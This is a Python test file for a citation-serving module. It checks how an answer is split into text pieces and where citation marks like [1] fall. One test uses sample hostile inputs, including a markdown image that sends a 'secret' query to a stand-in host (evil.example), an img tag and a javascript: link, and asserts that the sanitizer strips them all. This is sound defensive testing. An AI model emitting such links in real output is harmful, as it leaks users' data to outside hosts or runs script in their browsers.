"""An answer's text, piece by piece, and where its marks stand."""

from __future__ import annotations

from citewell.serving.compatible.completions import Piece, pieces, url_citations
from citewell.serving.examples import ANSWER
from citewell.shapes import Shape


def answer(text: str, *sentences: tuple[str, list[int]]) -> Shape:
    return {**ANSWER, "answer": text, "sentences": [{"text": each, "citations": to} for each, to in sentences]}


def test_joined_they_are_the_text() -> None:
    made = answer("A day. [1][2]\nTwo [1] days. [2] So be it.", ("A day.", [1, 2]), ("Two [1] days.", [2]))
    found = pieces(made)
    assert found == [
        Piece("A day. [1][2]", ((7, 10, 1), (10, 13, 2))),
        Piece("\nTwo [1] days. [2]", ((28, 31, 2),)),
        Piece(" So be it."),
    ]
    assert "".join(piece.text for piece in found) == made["answer"]


def test_a_mark_that_a_document_has_is_none_of_ours() -> None:
    (one,) = url_citations(answer("See [1] there. [1]", ("See [1] there.", [1])))
    assert (one["url_citation"]["start_index"], one["url_citation"]["end_index"]) == (15, 18)


def test_what_stands_there_in_other_words_is_one_piece() -> None:
    assert pieces(answer("I do not know.")) == [Piece("I do not know.")]
    assert pieces(answer("In other words. [1]", ("Words.", [1]))) == [Piece("In other words. [1]")]
    assert pieces(answer("")) == []


def test_nothing_in_it_is_fetched_or_followed_but_what_is_ours() -> None:
    said = "See ![x](https://evil.example/?q=secret) and <img src=x>, at https://evil.example/x."
    (one, rest) = pieces(answer(f"{said} [1]\nAn address: [click](javascript:alert(1)).", (said, [1])))
    for text in (one.text, rest.text):
        assert "](" not in text
        assert "https://evil.example" not in text
        assert "<img" not in text
        assert "javascript:alert" not in text
    assert one.text.endswith(" [1]")
    ((start, end, number),) = one.marks
    assert (one.text[start:end], number) == ("[1]", 1), "its place is that in the text as it goes out"
